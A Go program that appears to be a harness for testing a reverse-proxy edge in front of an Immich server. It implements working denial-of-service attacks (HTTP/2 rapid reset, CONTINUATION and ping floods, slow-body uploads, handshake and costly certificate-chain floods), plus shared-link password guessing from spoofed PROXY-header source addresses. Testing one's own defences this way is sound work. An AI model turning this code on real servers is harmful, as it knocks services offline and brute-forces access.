package main

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"fmt"
	"io"
	"math/big"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attacker is a stranger who means harm, from one network: it does one thing as often as it can until the context ends.
type attacker struct {
	chosen options
	done   atomic.Int64 // requests, handshakes or whatever the attack is made of
	failed atomic.Int64 // connections that could not be had, or ended early
	number atomic.Int64
}

// attackedBy is what an attack saw.
type attackedBy struct {
	Done    int64   `json:"done"`
	Failed  int64   `json:"failed"`
	Seconds float64 `json:"seconds"`
}

const (
	attackFrom  = "203.0.113.77"
	attackBlock = "2001:db8:a77" // a /48
	inFlight    = 200
)

// attacks are the kinds: how many do it at once, and what each does over and over.
var attacks = map[string]struct {
	workers int
	once    func(context.Context, *attacker) error
}{
	"log":          {1, flood("GET", "/favicon.ico", "user-agent", strings.Repeat("\xff", 3900))},
	"requests":     {4, flood("GET", "/api/server/config")},
	"cheap":        {4, flood("GET", "/_app/immutable/chunks/x.js")},
	"scans":        {4, flood("GET", "/wp%d")},
	"guesses":      {4, flood("GET", "/s/word%d")},
	"passwords":    {4, flood("POST", "/api/shared-links/login?slug=holiday")},
	"handshakes":   {32, handshake},
	"certificates": {16, handshakeWithChain},
	"connects":     {16, connect},
	"streams":      {40, unread},
	"bodies":       {250, slowBody},
	"addresses":    {32, anotherNetwork},
	"idle":         {400, idle},
	"resets":       {4, frames(resetStreams)},
	"continuation": {4, frames(endlessHeaders)},
	"pings":        {4, frames(pings)},
	"settings":     {4, frames(settings)},
	"windows":      {4, frames(windows)},
}

func attack(chosen options) (attackedBy, error) {
	found, known := attacks[chosen.kind]
	if !known {
		return attackedBy{}, fmt.Errorf("there is no attack %q", chosen.kind)
	}
	a := &attacker{chosen: chosen}
	ctx, cancel := context.WithTimeout(context.Background(), chosen.duration)
	defer cancel()
	began := time.Now()
	var all sync.WaitGroup
	for range found.workers {
		all.Go(func() {
			for ctx.Err() == nil {
				if err := found.once(ctx, a); err != nil {
					a.failed.Add(1)
					time.Sleep(time.Millisecond)
				}
			}
		})
	}
	all.Wait()
	return attackedBy{a.done.Load(), a.failed.Load(), time.Since(began).Seconds()}, nil
}

// bare connects from an address, without TLS; the connection ends with the context.
func (a *attacker) bare(ctx context.Context, from string) (net.Conn, error) {
	// From an address of its own, or the visitor would look for a free port among those that the attack has used up.
	dialer := net.Dialer{Timeout: patience, LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 0, 77)}}
	plain, err := dialer.DialContext(ctx, "tcp", a.chosen.address)
	if err != nil {
		return nil, err
	}
	family, to := "TCP4", "203.0.113.1"
	if strings.Contains(from, ":") {
		family, to = "TCP6", "2001:db8:ffff::1"
	}
	context.AfterFunc(ctx, func() { _ = plain.Close() })
	_, err = fmt.Fprintf(plain, "PROXY %s %s %s 40000 443\r\n", family, from, to)
	return plain, err
}

func (a *attacker) connect(ctx context.Context, from, protocol string, chain *tls.Certificate) (*tls.Conn, error) {
	plain, err := a.bare(ctx, from)
	if err != nil {
		return nil, err
	}
	config := &tls.Config{ServerName: a.chosen.host, InsecureSkipVerify: true, NextProtos: []string{protocol}}
	if chain != nil {
		config.GetClientCertificate = func(*tls.CertificateRequestInfo) (*tls.Certificate, error) { return chain, nil }
	}
	connection := tls.Client(plain, config)
	_ = plain.SetDeadline(time.Now().Add(patience))
	if err := connection.Handshake(); err != nil {
		_ = plain.Close()
		return nil, err
	}
	_ = plain.SetDeadline(time.Time{})
	return connection, nil
}

// stream2 is HTTP/2 as an attacker speaks it: what comes back is read and forgotten.
type stream2 struct {
	tls    *tls.Conn
	framer *http2.Framer
	coder  *hpack.Encoder
	coded  bytes.Buffer
	next   uint32
	ended  chan struct{} // closed when the edge has ended the connection
	room   chan struct{} // one for each request that may be on its way
}

func (a *attacker) speak2(ctx context.Context, from string, window uint32) (*stream2, error) {
	connection, err := a.connect(ctx, from, "h2", nil)
	if err != nil {
		return nil, err
	}
	s := &stream2{tls: connection, framer: http2.NewFramer(connection, connection), next: 1, ended: make(chan struct{}),
		room: make(chan struct{}, inFlight)}
	s.coder = hpack.NewEncoder(&s.coded)
	if _, err := io.WriteString(connection, http2.ClientPreface); err != nil {
		return nil, err
	}
	if err := s.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window}); err != nil {
		return nil, err
	}
	go s.readAll(a)
	return s, s.framer.WriteWindowUpdate(0, 1<<30)
}

func (s *stream2) readAll(a *attacker) {
	defer close(s.ended)
	for {
		frame, err := s.framer.ReadFrame()
		if err != nil {
			return
		}
		if frame.Header().Type == http2.FrameHeaders {
			a.done.Add(1)
		}
		if _, is := frame.(*http2.GoAwayFrame); is {
			return
		}
		if header := frame.Header(); header.Flags.Has(http2.FlagDataEndStream) || header.Type == http2.FrameRSTStream {
			select {
			case <-s.room:
			default:
			}
		}
	}
}

func (s *stream2) ask(host, method, target string, fields ...string) error {
	s.coded.Reset()
	fields = append([]string{":method", method, ":scheme", "https", ":authority", host, ":path", target}, fields...)
	for place := 0; place < len(fields); place += 2 {
		_ = s.coder.WriteField(hpack.HeaderField{Name: fields[place], Value: fields[place+1]})
	}
	s.next += 2
	return s.framer.WriteHeaders(http2.HeadersFrameParam{
		StreamID: s.next - 2, BlockFragment: s.coded.Bytes(), EndStream: true, EndHeaders: true,
	})
}

// flood asks the same over one connection, as much at once as the edge takes, and connects anew when it is ended. A number in
// the target makes each another one.
func flood(method, target string, fields ...string) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		s, err := a.speak2(ctx, attackFrom, 1<<20)
		if err != nil {
			return err
		}
		defer s.tls.Close()
		for {
			select {
			case s.room <- struct{}{}:
			case <-s.ended:
				return io.EOF
			case <-ctx.Done():
				return nil
			}
			asked := target
			if strings.Contains(target, "%d") {
				asked = fmt.Sprintf(target, a.number.Add(1))
			}
			if err := s.ask(a.chosen.host, method, asked, fields...); err != nil {
				return err
			}
		}
	}
}

func handshake(ctx context.Context, a *attacker) error {
	connection, err := a.connect(ctx, attackFrom, "h2", nil)
	if err != nil {
		return err
	}
	a.done.Add(1)
	return connection.Close()
}

// madeUp is a chain as dear to read as fits into a handshake.
var madeUp = sync.OnceValue(func() *tls.Certificate {
	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	made := &tls.Certificate{PrivateKey: key}
	for number := range 10 {
		modulus := make([]byte, 1024)
		_, _ = rand.Read(modulus)
		modulus[0] |= 0x80
		modulus[1023] |= 1
		template := &x509.Certificate{
			SerialNumber: big.NewInt(int64(number + 2)), Subject: pkix.Name{CommonName: "Immich Client CA"},
			NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		}
		var public any = &rsa.PublicKey{N: new(big.Int).SetBytes(modulus), E: 1<<31 - 1}
		if number == 0 {
			public = &key.PublicKey
		}
		one, err := x509.CreateCertificate(rand.Reader, template, template, public, key)
		if err != nil {
			panic(err)
		}
		made.Certificate = append(made.Certificate, one)
	}
	return made
})

func handshakeWithChain(ctx context.Context, a *attacker) error {
	connection, err := a.connect(ctx, attackFrom, "http/1.1", madeUp())
	if err != nil {
		return err
	}
	defer connection.Close()
	if _, err := fmt.Fprintf(connection, "GET /favicon.ico HTTP/1.1\r\nHost: %s\r\n\r\n", a.chosen.host); err != nil {
		return err
	}
	if _, err := connection.Read(make([]byte, 1)); err != nil {
		return err
	}
	a.done.Add(1)
	return nil
}

func connect(ctx context.Context, a *attacker) error {
	connection, err := a.bare(ctx, attackFrom)
	if err == nil {
		a.done.Add(1)
		err = connection.Close()
	}
	return err
}

// unread asks for much and reads nothing of it.
func unread(ctx context.Context, a *attacker) error {
	s, err := a.speak2(ctx, attackFrom, 1)
	if err != nil {
		return err
	}
	defer s.tls.Close()
	for range 100 {
		if err := s.ask(a.chosen.host, "GET", a.chosen.target); err != nil {
			return err
		}
	}
	select {
	case <-s.ended:
		return io.EOF
	case <-ctx.Done():
		return nil
	}
}

// slowBody sends a body drop by drop.
func slowBody(ctx context.Context, a *attacker) error {
	connection, err := a.connect(ctx, attackFrom, "http/1.1", nil)
	if err != nil {
		return err
	}
	defer connection.Close()
	_, err = fmt.Fprintf(connection, "POST /api/download/info?slug=holiday HTTP/1.1\r\nHost: %s\r\nContent-Length: 900000\r\n\r\n", a.chosen.host)
	for err == nil && ctx.Err() == nil {
		a.done.Add(1)
		time.Sleep(100 * time.Millisecond)
		_, err = connection.Write([]byte("x"))
	}
	return err
}

// anotherNetwork guesses from another /64 of the same /48 each time.
func anotherNetwork(ctx context.Context, a *attacker) error {
	number := a.number.Add(1)
	connection, err := a.connect(ctx, fmt.Sprintf("%s:%x::1", attackBlock, number&0xffff), "http/1.1", nil)
	if err != nil {
		return err
	}
	defer connection.Close()
	if _, err := fmt.Fprintf(connection, "GET /s/word%d HTTP/1.1\r\nHost: %s\r\n\r\n", number, a.chosen.host); err != nil {
		return err
	}
	a.done.Add(1)
	_, err = connection.Read(make([]byte, 1))
	return err
}

func idle(ctx context.Context, a *attacker) error {
	connection, err := a.connect(ctx, attackFrom, "h2", nil)
	if err != nil {
		time.Sleep(100 * time.Millisecond)
		return err
	}
	a.done.Add(1)
	_, err = io.Copy(io.Discard, connection)
	return err
}

// frames sends frames of HTTP/2 over one connection until it is ended, through a buffer, so that many of them share a
// record of TLS.
func frames(write func(*attacker, *stream2, *http2.Framer) error) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		s, err := a.speak2(ctx, attackFrom, 1<<20)
		if err != nil {
			return err
		}
		defer s.tls.Close()
		var buffer bytes.Buffer
		framer := http2.NewFramer(&buffer, nil)
		framer.AllowIllegalWrites = true
		for ctx.Err() == nil {
			buffer.Reset()
			for buffer.Len() < 12<<10 {
				if err := write(a, s, framer); err != nil {
					return err
				}
				a.done.Add(1)
			}
			if _, err := s.tls.Write(buffer.Bytes()); err != nil {
				return err
			}
		}
		return nil
	}
}

func resetStreams(a *attacker, s *stream2, framer *http2.Framer) error {
	s.coded.Reset()
	for _, field := range [][2]string{
		{":method", "GET"}, {":scheme", "https"}, {":authority", a.chosen.host}, {":path", a.chosen.target},
	} {
		_ = s.coder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]})
	}
	block := s.coded.Bytes()
	id := s.next
	s.next += 2
	if err := framer.WriteHeaders(http2.HeadersFrameParam{
		StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true,
	}); err != nil {
		return err
	}
	return framer.WriteRSTStream(id, http2.ErrCodeCancel)
}

func endlessHeaders(_ *attacker, s *stream2, framer *http2.Framer) error {
	if s.next == 1 {
		s.next = 3
		return framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: []byte{0x82}})
	}
	return framer.WriteContinuation(1, false, nil)
}

func pings(_ *attacker, _ *stream2, framer *http2.Framer) error {
	return framer.WritePing(false, [8]byte{1})
}

func settings(_ *attacker, _ *stream2, framer *http2.Framer) error {
	return framer.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: 4096})
}

func windows(_ *attacker, _ *stream2, framer *http2.Framer) error {
	return framer.WritePriority(1, http2.PriorityParam{Weight: 3})
}
